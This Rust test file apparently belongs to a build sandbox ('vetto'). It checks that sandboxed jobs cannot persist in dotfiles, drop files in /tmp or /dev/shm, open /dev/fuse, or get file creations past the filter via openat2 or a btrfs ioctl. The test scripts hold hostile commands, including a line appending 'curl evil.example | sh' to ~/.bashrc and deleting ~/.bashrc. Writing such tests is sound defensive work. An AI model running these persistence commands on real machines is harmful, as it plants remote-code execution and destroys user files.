//! Writing outside the project and its temp dir: persistence in dotfiles,
//! droppers in shared /tmp, tampering with sibling checkouts.

use crate::util::{Tier, World, read, unique_sleep_arg, user, violation_lines};
use crate::{at_every_tier, require};
use std::path::Path;
use std::time::Duration;

/// Runs as an unprivileged user: a job appends to `$HOME/.bashrc`, drops a
/// file in the shared `/tmp` and one in a directory next to the project.
/// Evidence: bare, all three files change; sandboxed, none does while the
/// script still runs to its end.
fn writes_outside_project_and_tmpdir_are_blocked(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let shared_tmp = format!("/tmp/vetto-escape-{}", unique_sleep_arg());
    let bashrc = w.home.join(".bashrc");
    let sibling = w.outside.join("dropped");
    let script = format!(
        "echo PWNED >> '{}'; echo PWNED > '{shared_tmp}'; echo PWNED > '{}'; echo script-finished",
        bashrc.display(),
        sibling.display()
    );

    w.sh_bare(&script).assert_success();
    assert!(
        read(&bashrc).unwrap().contains("PWNED"),
        "control: bare append to .bashrc failed"
    );
    assert!(
        read(shared_tmp.as_ref()).is_some(),
        "control: bare write to /tmp failed"
    );
    assert!(
        read(&sibling).is_some(),
        "control: bare write next to the project failed"
    );
    std::fs::write(&bashrc, "# original bashrc\n").unwrap();
    std::fs::remove_file(&shared_tmp).unwrap();
    std::fs::remove_file(&sibling).unwrap();

    let out = w.sh_sandboxed(&script);
    out.assert_ran().assert_stdout_contains("script-finished");
    assert_eq!(
        read(&bashrc).as_deref(),
        Some("# original bashrc\n"),
        "~/.bashrc was modified\n{}",
        out.dump()
    );
    let leaked = read(shared_tmp.as_ref());
    let _ = std::fs::remove_file(&shared_tmp);
    assert!(
        leaked.is_none(),
        "the job wrote {shared_tmp}\n{}",
        out.dump()
    );
    assert!(
        read(&sibling).is_none(),
        "the job wrote {}\n{}",
        sibling.display(),
        out.dump()
    );
}
at_every_tier!(writes_outside_project_and_tmpdir_are_blocked);

/// Runs as an unprivileged user: a job creates a new file in `$HOME` (not an
/// existing one) and a directory at the filesystem root of the world.
fn creating_files_in_home_is_blocked(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let script = "mkdir -p \"$HOME/.config/autostart\"; echo PWNED > \"$HOME/.profile\"; echo script-finished";
    let out = w.sh_sandboxed(script);
    out.assert_ran().assert_stdout_contains("script-finished");
    assert!(
        !w.home.join(".profile").exists(),
        "the job created ~/.profile\n{}",
        out.dump()
    );
    assert!(
        !w.home.join(".config/autostart").exists(),
        "the job created ~/.config/autostart\n{}",
        out.dump()
    );

    let bare = w.sh_bare(script);
    bare.assert_success();
    assert!(
        w.home.join(".profile").exists(),
        "control: bare creation in $HOME failed"
    );
}
at_every_tier!(creating_files_in_home_is_blocked);

/// Issue P10, item 6. Runs as an unprivileged user whose home is not below
/// `/tmp` (FULL's `/tmp` is its own): a package's script appends to
/// `~/.bashrc`, creates `~/.profile` and removes `~/.bashrc`. FULL's view
/// leaves the home out, so the kernel answers `ENOENT` there (and said
/// nothing to vetto, which ended CLEAN); FS-ONLY's Landlock answers
/// `EACCES`. Evidence: bare, the three succeed; sandboxed, `~/.bashrc` is
/// what it was, no `~/.profile` exists, `vetto ci` exits 3 and the session
/// log names each attempt with the process that made it.
fn writes_into_a_home_the_sandbox_hides_are_recorded(tier: Tier) {
    require!(tier.feature());
    let w = World::at_in(tier, Path::new("/var/tmp"));
    let bashrc = w.home.join(".bashrc");
    let original = "# the user's bashrc\n";
    w.write(&bashrc, original);
    let script = "echo 'curl evil.example | sh' >> ~/.bashrc; echo PWNED > ~/.profile; \
                  rm -f ~/.bashrc; echo script-finished";
    w.sh_bare(script).assert_success();
    assert!(
        read(&bashrc).is_none() && w.home.join(".profile").exists(),
        "control: the bare script did not write the home"
    );
    std::fs::remove_file(w.home.join(".profile")).unwrap();
    w.write(&bashrc, original);

    let (out, log) = w.ci_sh(script);
    out.assert_stdout_contains("script-finished");
    assert_eq!(read(&bashrc).as_deref(), Some(original), "{}", out.dump());
    assert!(!w.home.join(".profile").exists(), "{}", out.dump());
    assert_eq!(out.code(), 3, "{}", out.dump());
    let violations = violation_lines(&log);
    for (name, by) in [
        (".bashrc", "/dash"),
        (".profile", "/dash"),
        (".bashrc", "/rm"),
    ] {
        let path = w.home.join(name);
        assert!(
            violations.iter().any(|l| l.contains("\"fs-write-denied\"")
                && l.contains(&format!("\"{}\"", path.display()))
                && l.contains(by)),
            "no fs-write-denied of {} by {by}\n{log}\n{}",
            path.display(),
            out.dump()
        );
    }
}
at_every_tier!(writes_into_a_home_the_sandbox_hides_are_recorded);

/// Runs as an unprivileged user: a job drops a payload in `/dev/shm`, a
/// host-wide tmpfs that other processes (and later jobs) read, and that
/// outlives the session. Evidence: bare, the file is there after the
/// command; sandboxed, it is not (never written, or removed at the end).
fn files_dropped_in_dev_shm_do_not_outlive_the_session(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let dropped = format!("/dev/shm/vetto-escape-{}", unique_sleep_arg());
    let script = format!("echo PWNED > '{dropped}'; echo script-finished");

    w.sh_bare(&script).assert_success();
    assert!(
        read(dropped.as_ref()).is_some(),
        "control: bare write to /dev/shm failed"
    );
    std::fs::remove_file(&dropped).unwrap();

    let out = w.sh_sandboxed(&script);
    out.assert_ran().assert_stdout_contains("script-finished");
    let left = read(dropped.as_ref());
    let _ = std::fs::remove_file(&dropped);
    assert!(
        left.is_none(),
        "{dropped} outlived the session\n{}",
        out.dump()
    );
}
at_every_tier!(files_dropped_in_dev_shm_do_not_outlive_the_session);

/// Runs as an unprivileged user: while a session runs, another process of
/// the same user outside the sandbox (a browser, another session) makes a
/// file in `/dev/shm`. The scrub at the end used to remove every new entry
/// of the user's there, that file with it. Evidence: the outside file is
/// the user's own (what the scrub's owner check alone does not spare);
/// after the session it is still there, while the job's own file is gone.
fn files_made_in_dev_shm_outside_the_sandbox_survive_the_sessions_scrub(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let unique = unique_sleep_arg();
    let inside = format!("/dev/shm/vetto-inside-{unique}");
    let outside = format!("/dev/shm/vetto-outside-{unique}");
    let go = w.project.join("go");
    // The hang guard (600 × 0.1 s) only bounds a broken run.
    let script = format!(
        "echo job > '{inside}'; echo ready; n=0; \
         until [ -e '{}' ] || [ $n -ge 600 ]; do sleep 0.1; n=$((n+1)); done; echo job-done",
        go.display()
    );
    let mut job = w
        .sandboxed(&["sh", "-c", &script])
        .timeout(Duration::from_secs(180))
        .spawn();
    job.wait_for_stdout("ready", Duration::from_secs(120));
    w.sh_bare(&format!("echo theirs > '{outside}'"))
        .assert_success();
    let owner = std::fs::symlink_metadata(&outside).map(|m| {
        use std::os::unix::fs::MetadataExt;
        m.uid()
    });
    w.write(&go, "go\n");
    let out = job.wait();
    let survived = read(outside.as_ref());
    let left = read(inside.as_ref());
    let _ = std::fs::remove_file(&outside);
    let _ = std::fs::remove_file(&inside);
    assert_eq!(
        owner.ok(),
        Some(user().uid),
        "control: the outside file is not the user's own"
    );
    out.assert_ran().assert_stdout_contains("job-done");
    assert_eq!(
        survived.as_deref(),
        Some("theirs\n"),
        "{outside}, made outside the sandbox, did not survive the session\n{}",
        out.dump()
    );
    assert!(
        left.is_none(),
        "{inside} outlived the session\n{}",
        out.dump()
    );
}
at_every_tier!(files_made_in_dev_shm_outside_the_sandbox_survive_the_sessions_scrub);

/// Runs as an unprivileged user: a job opens host devices beyond the
/// minimal set a build needs — `/dev/fuse`, which lets it serve a
/// filesystem of its own, and `/dev/kmsg`'s neighbours — and lists `/dev`.
/// Evidence: bare, `/dev/fuse` opens read-write (the test host makes it
/// 0666, as Debian does); sandboxed it does not, while `/dev/null` still
/// does and `/dev` still lists its names.
fn host_devices_beyond_the_minimal_set_do_not_open(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let script = "(exec 3<>/dev/fuse) 2>/dev/null && echo FUSE-OPENED; \
                  echo null-ok > /dev/null && echo NULL-WRITABLE; \
                  ls /dev | grep -qx null && echo DEV-LISTS; echo script-finished";
    let bare = w.sh_bare(script);
    bare.assert_success();
    assert!(
        bare.stdout().contains("FUSE-OPENED"),
        "control: bare open of /dev/fuse failed (is it 0666?)\n{}",
        bare.dump()
    );
    let out = w.sh_sandboxed(script);
    out.assert_ran()
        .assert_stdout_contains("script-finished")
        .assert_stdout_contains("NULL-WRITABLE")
        .assert_stdout_contains("DEV-LISTS");
    assert!(
        !out.stdout().contains("FUSE-OPENED"),
        "the job opened /dev/fuse\n{}",
        out.dump()
    );
}
at_every_tier!(host_devices_beyond_the_minimal_set_do_not_open);

/// Runs as an unprivileged user: the job asks for a btrfs subvolume in the
/// project (`BTRFS_IOC_SUBVOL_CREATE`), a directory entry that neither
/// Landlock nor a notified call would see — on btrfs it works for any
/// directory the user may write by its mode. This machine's project is on
/// ext4, so bare the kernel answers "not a btrfs ioctl" (ENOTTY);
/// sandboxed, the filter refuses the command before any filesystem sees
/// it (EPERM), whatever the filesystem.
fn btrfs_subvolume_ioctl_never_reaches_the_filesystem(tier: Tier) {
    require!(tier.feature());
    let script = "python3 -c \"import fcntl, os; fd = os.open('.', os.O_RDONLY); \
                  fcntl.ioctl(fd, 0x5000940e, bytearray(4096))\" 2>&1 | tail -1; echo script-finished";
    let bare = World::at(tier);
    bare.sh_bare(script)
        .assert_stdout_contains("Errno 25")
        .assert_stdout_contains("script-finished");
    let w = World::at(tier);
    w.sh_sandboxed(script)
        .assert_stdout_contains("Errno 1]")
        .assert_stdout_contains("script-finished");
}
at_every_tier!(btrfs_subvolume_ioctl_never_reaches_the_filesystem);

/// Runs as an unprivileged user: `openat2` with `O_CREAT`, its flags in
/// memory where the filter that hands creations to the supervisor cannot
/// see them (a creation the supervisor never saw is one it never checked
/// against the protected names). Evidence: bare, the call reaches the path
/// lookup (`ENOENT` for the missing directory); sandboxed, it answers
/// `ENOSYS` before that, and libc falls back to `openat`.
fn openat2_hides_o_creat_from_the_filter_in_vain(tier: Tier) {
    require!(tier.feature());
    let w = World::at(tier);
    let bare = w.probe_bare(&["openat2-create"]);
    assert_eq!(bare.error(), "ENOENT", "{}", bare.describe());
    w.probe_sandboxed(&["openat2-create"])
        .assert_blocked_with(&["ENOSYS"]);
}
at_every_tier!(openat2_hides_o_creat_from_the_filter_in_vain);
